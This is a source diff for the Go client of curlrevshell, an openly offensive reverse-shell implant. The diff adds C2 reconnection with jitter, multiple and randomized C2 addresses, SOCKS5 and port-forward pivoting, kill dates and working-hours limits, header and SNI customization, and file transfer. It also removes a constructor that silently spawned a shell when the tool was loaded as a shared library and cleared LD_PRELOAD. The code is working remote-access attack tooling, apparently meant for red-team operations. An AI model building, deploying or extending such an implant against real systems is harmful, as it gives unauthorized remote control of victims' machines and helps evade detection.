@@ -6,19 +6,24 @@ package main
  * Simple client for curlrevshell
  * By J. Stuart McMurray
  * Created 20241012
- * Last Modified 20241012
+ * Last Modified 20261016
  */
 
 import (
 	"cmp"
 	"context"
+	"crypto/x509"
+	"errors"
 	"flag"
 	"fmt"
 	"log"
+	"net/http"
 	"os"
+	"os/exec"
 	"path/filepath"
-	"runtime/debug"
+	"strconv"
 	"strings"
+	"time"
 
 	"github.com/magisterquis/curlrevshell/lib/simpleshell"
 )
@@ -32,30 +37,78 @@ var (
 	Fingerprint       string
 	FingerprintEnvVar = "SIMPLESHELL_FP"
 	IgnoreFlags       string
+
+	// Reconnection, used if Reconnect isn't empty.  See
+	// simpleshell.ReconnectConfig.
+	Reconnect   string
+	RandomC2    string /* Non-empty to randomize C2 order. */
+	MinBackoff  = simpleshell.DefaultMinBackoff.String()
+	MaxBackoff  = simpleshell.DefaultMaxBackoff.String()
+	Jitter      = "0.2"
+	MaxAttempts = "0" /* Consecutive failures, 0 for forever. */
+	MaxDuration = "0" /* Total time to try, 0 for forever. */
+
+	// How we talk to Curlrevshell.  See simpleshell.ConnConfig.
+	Mode          = string(simpleshell.ModeAuto)
+	DuplexTimeout = simpleshell.DefaultDuplexTimeout.String()
+	DialAddress   string
+	SNI           string
+	Host          string
+	UserAgent     string
+	Headers       string /* Split with simpleshell.SplitArgs. */
+	C2Header      string
+	HTTPVersion   string
+
+	// TLS verification, in addition to Fingerprint.  See
+	// simpleshell.ConnConfig.
+	VerifyCA string /* Non-empty to verify with CAs. */
+	RootCAs  string /* PEM-encoded, used instead of the system's. */
+
+	// NoTransfers disables @get and @put if non-empty.  See
+	// simpleshell.TransferShell.
+	NoTransfers string
+
+	// Framing, if non-empty, enables sending standard error and the exit
+	// status separately, which older Curlrevshells don't understand.
+	// Curlrevshell turns it on in configSlot when it serves us prebuilt.
+	// See simpleshell.FramedShell.
+	Framing string
+
+	// Pivoting, used if Pivot isn't empty, which lets Curlrevshell make
+	// connections via us for SOCKS5 and port forwards.  See
+	// simpleshell.PivotConfig.  Reconnection waits MinBackoff.
+	Pivot           string
+	PivotMaxStreams = "0" /* 0 for the default. */
+
+	// When we may connect.  KillDate is RFC3339 or YYYY-MM-DD, in local
+	// time.  Hours and Weekdays are comma-separated lists of hours (0-23)
+	// and days (Mon, Tue...) or ranges of them, like 9-17 or Mon-Fri.
+	// See simpleshell.ConnConfig.
+	KillDate string
+	Hours    string
+	Weekdays string
+
+	// Detach, if non-empty, makes the shared object file start its shell
+	// in a detached child process instead of a goroutine, so the shell
+	// outlives the host process.  Only works on Linux.
+	Detach       string
+	DetachEnvVar = "SIMPLESHELL_DETACH"
 )
 
 // defaultArgs is what we use if we really don't have any other args.
 var defaultArgs = []string{"/bin/sh"}
 
-// ctorBuildMode is the -buildmode value which causes init() to run a shell.
-const ctorBuildMode = "c-shared"
-
-func init() {
-	/* Figure out if we're in a shared object file.  If so, we'll use
-	this constructor function to run our shell. */
-	bi, ok := debug.ReadBuildInfo()
-	if !ok { /* No way to know if we're a library, so give up :( */
-		return
-	}
-	/* If we seem to be in a library, spawn a shell. */
-	for _, s := range bi.Settings {
-		if "-buildmode" == s.Key && ctorBuildMode == s.Value {
-			os.Unsetenv("LD_PRELOAD")
-			go shell(context.Background(), "", "", nil)
-			return
-		}
-	}
-}
+// configSlot holds config patched in by Curlrevshell when it serves us
+// prebuilt.  It's used after environment variables and before compile-time
+// defaults.  See simpleshell.PatchConfigSlots.
+var configSlot = simpleshell.EmptyConfigSlot
+
+// slotConfig is the config from configSlot.
+var slotConfig, slotConfigErr = simpleshell.ParseConfigSlot(configSlot)
+
+// replayFile, if set with -replay, is a recorded session to replay instead of
+// running a command.
+var replayFile string
 
 func main() {
 	/* Command-line flags. */
@@ -63,14 +116,22 @@ func main() {
 		c2 = flag.String(
 			"c2",
 			chooseC2(""),
-			"Curlrevshell's `URL`",
+			"Curlrevshell's `URL`, or space-separated URLs",
 		)
 		fingerprint = flag.String(
 			"fingerprint",
 			chooseFingerprint(""),
-			"Curlrevshell's TLS `fingerrpint`",
+			"Curlrevshell's TLS `fingerrpint`, or several "+
+				"separated by semicolons",
 		)
 	)
+	flag.StringVar(
+		&replayFile,
+		"replay",
+		"",
+		"Replay a recorded session from `file`, for demos, instead "+
+			"of running a command",
+	)
 	flag.Usage = func() {
 		fmt.Fprintf(
 			os.Stderr,
@@ -92,27 +153,35 @@ Options:
 	if "" == IgnoreFlags {
 		flag.Parse()
 	}
+	if nil != slotConfigErr {
+		log.Printf("Error parsing patched-in config: %s", slotConfigErr)
+	}
 
-	/* This is more or less a library wrapper. */
+	/* This is more or less a library wrapper.  Past the kill date, we
+	keep quiet. */
 	if err := shell(
 		context.Background(),
 		*c2,
 		*fingerprint,
 		flag.Args(),
-	); nil != err {
+	); nil != err && !errors.Is(err, simpleshell.ErrKillDate) {
 		log.Printf("Error: %s", err)
 	}
 }
 
 // chooseArgs works out which set of args to use.  It chooses the first non
 // empty slice from its own argument args (which may be nil), the value of the
-// environment variable named ArgsEnvVar, Args, and finally defaultArgs.  The
-// returned arguments will be split with [simpleshell.SplitArgs] if appropriate.
+// environment variable named ArgsEnvVar, configSlot, Args, and finally
+// defaultArgs.  The returned arguments will be split with
+// [simpleshell.SplitArgs] if appropriate.
 func chooseArgs(args []string) []string {
 	/* Work out how to start a child process. */
 	for _, a := range [][]string{
 		args,
 		simpleshell.SplitArgs(os.Getenv(ArgsEnvVar)),
+		simpleshell.SplitArgs(
+			slotConfig.Get(simpleshell.ConfigSlotArgs),
+		),
 		simpleshell.SplitArgs(Args),
 	} {
 		if 0 != len(a) {
@@ -124,25 +193,318 @@ func chooseArgs(args []string) []string {
 
 // chooseFingerprint works out which fingerprint to use, if any.  It chooses
 // the first non-empty string from its own argument, the value of the
-// environment variable named FingerprintEnvVar, and finally Fingerprint.
-// The returned string may be the empty string.
+// environment variable named FingerprintEnvVar, configSlot, and finally
+// Fingerprint.  The returned string may be the empty string.
 func chooseFingerprint(fingerprint string) string {
-	return cmp.Or(fingerprint, os.Getenv(FingerprintEnvVar), Fingerprint)
+	return cmp.Or(
+		fingerprint,
+		os.Getenv(FingerprintEnvVar),
+		slotConfig.Get(simpleshell.ConfigSlotFingerprint),
+		Fingerprint,
+	)
 }
 
 // chooseC2 works out which C2 address to use, if any.  It chooses the first
 // non-empty string from its own argument, the value of the environment
-// variable named C2EnvVar, and finally C2.  The returned string may be the
-// empty string.
-func chooseC2(c2 string) string { return cmp.Or(c2, os.Getenv(C2EnvVar), C2) }
+// variable named C2EnvVar, configSlot, and finally C2.  The returned string
+// may be the empty string.  It may also contain multiple space-separated URLs.
+func chooseC2(c2 string) string {
+	return cmp.Or(
+		c2,
+		os.Getenv(C2EnvVar),
+		slotConfig.Get(simpleshell.ConfigSlotC2),
+		C2,
+	)
+}
 
 // shell spawns a shell and hooks it up to Curlrevshell.  Any of the non-ctx
-// arguments can be their zero values.
+// arguments can be their zero values.  If Reconnect is set, a new shell is
+// spawned for each connection.
 func shell(ctx context.Context, c2, fingerprint string, args []string) error {
-	return simpleshell.GoSimple(
+	c2s := strings.Fields(chooseC2(c2))
+	if 0 == len(c2s) {
+		return errors.New("no C2 URL")
+	}
+
+	conf, err := connConfig(fingerprint)
+	if nil != err {
+		return fmt.Errorf("parsing connection config: %w", err)
+	}
+	if err := conf.Allowed(time.Now()); errors.Is(
+		err,
+		simpleshell.ErrKillDate,
+	) {
+		return err
+	}
+	args = chooseArgs(args)
+
+	/* Pivot while the shell's running, if we're meant to. */
+	if "" != Pivot {
+		pconf, backoff, err := pivotConfig()
+		if nil != err {
+			return fmt.Errorf("parsing pivot config: %w", err)
+		}
+		pctx, cancel := context.WithCancel(ctx)
+		defer cancel()
+		go pivot(pctx, conf, c2s, pconf, backoff)
+	}
+
+	/* If we're only connecting once, life's easy. */
+	if "" == Reconnect {
+		shell, err := newShell(args)
+		if nil != err {
+			return err
+		}
+		conf.C2 = c2s[0]
+		return simpleshell.Go(ctx, conf, shell)
+	}
+
+	/* Reconnect until we can't. */
+	rconf, err := reconnectConfig()
+	if nil != err {
+		return fmt.Errorf("parsing reconnect config: %w", err)
+	}
+	rconf.C2s = c2s
+	return simpleshell.GoReconnect(
 		ctx,
-		chooseC2(c2),
-		chooseFingerprint(fingerprint),
-		chooseArgs(args),
+		conf,
+		rconf,
+		func() (simpleshell.Shell, error) { return newShell(args) },
+	)
+}
+
+// newShell returns a Shell which runs args, or replays replayFile if it's
+// set, which handles @get and @put unless NoTransfers is set and frames its
+// output if framing says so.
+func newShell(args []string) (simpleshell.Shell, error) {
+	if "" != replayFile {
+		return newReplayShell()
+	}
+	cs, err := simpleshell.NewCmdShell(
+		exec.Command(args[0], args[1:]...),
+	)
+	if nil != err {
+		return nil, fmt.Errorf("preparing subprocess: %w", err)
+	}
+	var shell simpleshell.Shell = cs
+	if "" == NoTransfers {
+		shell = simpleshell.NewTransferShell(shell)
+	}
+	if framing() {
+		shell = simpleshell.NewFramedShell(shell)
+	}
+	return shell, nil
+}
+
+// framing returns true if Framing or configSlot asks for framed output.
+func framing() bool {
+	return "" != cmp.Or(
+		slotConfig.Get(simpleshell.ConfigSlotFraming),
+		Framing,
+	)
+}
+
+// newReplayShell returns a Shell which replays replayFile, framed if framing
+// says so.
+func newReplayShell() (simpleshell.Shell, error) {
+	f, err := os.Open(replayFile)
+	if nil != err {
+		return nil, fmt.Errorf("opening recording: %w", err)
+	}
+	defer f.Close()
+	evs, err := simpleshell.ParseRecording(f)
+	if nil != err {
+		return nil, fmt.Errorf(
+			"parsing recording %s: %w",
+			replayFile,
+			err,
+		)
+	}
+	var shell simpleshell.Shell = simpleshell.NewReplayShell(evs)
+	if framing() {
+		shell = simpleshell.NewFramedShell(shell)
+	}
+	return shell, nil
+}
+
+// pivot calls simpleshell.GoPivot until ctx is done, waiting backoff between
+// calls.  If GoPivot fails, the next of c2s is used.
+func pivot(
+	ctx context.Context,
+	conf simpleshell.ConnConfig,
+	c2s []string,
+	pconf simpleshell.PivotConfig,
+	backoff time.Duration,
+) {
+	for i := 0; nil == ctx.Err(); {
+		conf.C2 = c2s[i%len(c2s)]
+		if err := simpleshell.GoPivot(ctx, conf, pconf); nil != err {
+			i++
+		}
+		select {
+		case <-ctx.Done():
+		case <-time.After(backoff):
+		}
+	}
+}
+
+// pivotConfig parses the compile-time pivoting variables.  It also returns
+// MinBackoff.
+func pivotConfig() (simpleshell.PivotConfig, time.Duration, error) {
+	var (
+		pconf simpleshell.PivotConfig
+		err   error
 	)
+	if pconf.MaxStreams, err = strconv.Atoi(PivotMaxStreams); nil != err {
+		return pconf, 0, fmt.Errorf("PivotMaxStreams: %w", err)
+	}
+	backoff, err := time.ParseDuration(MinBackoff)
+	if nil != err {
+		return pconf, 0, fmt.Errorf("MinBackoff: %w", err)
+	}
+	return pconf, backoff, nil
+}
+
+// connConfig makes a ConnConfig from the compile-time variables and the
+// fingerprint, which may be empty.  The C2 isn't set.
+func connConfig(fingerprint string) (simpleshell.ConnConfig, error) {
+	conf := simpleshell.ConnConfig{
+		Fingerprint: chooseFingerprint(fingerprint),
+		Mode:        simpleshell.Mode(Mode),
+		DialAddress: DialAddress,
+		SNI:         SNI,
+		Host:        Host,
+		UserAgent:   UserAgent,
+		Header:      make(http.Header),
+		C2Header:    C2Header,
+		HTTPVersion: HTTPVersion,
+		VerifyCA:    "" != VerifyCA,
+	}
+	if "" != RootCAs {
+		conf.RootCAs = x509.NewCertPool()
+		if !conf.RootCAs.AppendCertsFromPEM([]byte(RootCAs)) {
+			return conf, errors.New("no certificates in RootCAs")
+		}
+	}
+	for _, h := range simpleshell.SplitArgs(Headers) {
+		k, v, ok := strings.Cut(h, ":")
+		if !ok {
+			return conf, fmt.Errorf("header without a colon: %q", h)
+		}
+		conf.Header.Add(strings.TrimSpace(k), strings.TrimSpace(v))
+	}
+	var err error
+	if conf.DuplexTimeout, err = time.ParseDuration(
+		DuplexTimeout,
+	); nil != err {
+		return conf, fmt.Errorf("DuplexTimeout: %w", err)
+	}
+	if conf.KillDate, err = parseKillDate(KillDate); nil != err {
+		return conf, fmt.Errorf("KillDate: %w", err)
+	}
+	if conf.Hours, err = parseRanges(Hours, 24, strconv.Atoi); nil != err {
+		return conf, fmt.Errorf("Hours: %w", err)
+	}
+	days, err := parseRanges(Weekdays, 7, parseWeekday)
+	if nil != err {
+		return conf, fmt.Errorf("Weekdays: %w", err)
+	}
+	for _, d := range days {
+		conf.Weekdays = append(conf.Weekdays, time.Weekday(d))
+	}
+	return conf, nil
+}
+
+// parseKillDate parses s as an RFC3339 time or a local YYYY-MM-DD date.  The
+// empty string is the zero time.
+func parseKillDate(s string) (time.Time, error) {
+	if "" == s {
+		return time.Time{}, nil
+	}
+	t, err := time.ParseInLocation(time.DateOnly, s, time.Local)
+	if nil == err {
+		return t, nil
+	}
+	return time.Parse(time.RFC3339, s)
+}
+
+// parseWeekday parses the first three letters of a day of the week,
+// case-insensitively.
+func parseWeekday(s string) (int, error) {
+	for d := range 7 {
+		name := time.Weekday(d).String()
+		if 3 <= len(s) && strings.HasPrefix(
+			strings.ToLower(name),
+			strings.ToLower(s),
+		) {
+			return d, nil
+		}
+	}
+	return 0, fmt.Errorf("unknown day %q", s)
+}
+
+// parseRanges parses a comma-separated list of numbers and inclusive ranges
+// of numbers, like 1,3-5.  Ranges may wrap around, like 22-2.  Numbers are
+// parsed with parse and must be less than n.
+func parseRanges(
+	s string,
+	n int,
+	parse func(string) (int, error),
+) ([]int, error) {
+	var ret []int
+	for _, r := range strings.Split(s, ",") {
+		if r = strings.TrimSpace(r); "" == r {
+			continue
+		}
+		/* Parse the ends of the range. */
+		first, last, isRange := strings.Cut(r, "-")
+		start, err := parse(strings.TrimSpace(first))
+		if nil != err {
+			return nil, err
+		}
+		end := start
+		if isRange {
+			end, err = parse(strings.TrimSpace(last))
+			if nil != err {
+				return nil, err
+			}
+		}
+		if start < 0 || n <= start || end < 0 || n <= end {
+			return nil, fmt.Errorf("%q out of range", r)
+		}
+		/* Add everything in it. */
+		for i := start; ; i = (i + 1) % n {
+			ret = append(ret, i)
+			if i == end {
+				break
+			}
+		}
+	}
+	return ret, nil
+}
+
+// reconnectConfig parses the compile-time reconnection variables.
+func reconnectConfig() (simpleshell.ReconnectConfig, error) {
+	rconf := simpleshell.ReconnectConfig{Random: "" != RandomC2}
+	var err error
+	for _, d := range []struct {
+		name string
+		s    string
+		d    *time.Duration
+	}{
+		{"MinBackoff", MinBackoff, &rconf.MinBackoff},
+		{"MaxBackoff", MaxBackoff, &rconf.MaxBackoff},
+		{"MaxDuration", MaxDuration, &rconf.MaxDuration},
+	} {
+		if *d.d, err = time.ParseDuration(d.s); nil != err {
+			return rconf, fmt.Errorf("%s: %w", d.name, err)
+		}
+	}
+	if rconf.Jitter, err = strconv.ParseFloat(Jitter, 64); nil != err {
+		return rconf, fmt.Errorf("Jitter: %w", err)
+	}
+	if rconf.MaxAttempts, err = strconv.Atoi(MaxAttempts); nil != err {
+		return rconf, fmt.Errorf("MaxAttempts: %w", err)
+	}
+	return rconf, nil
 }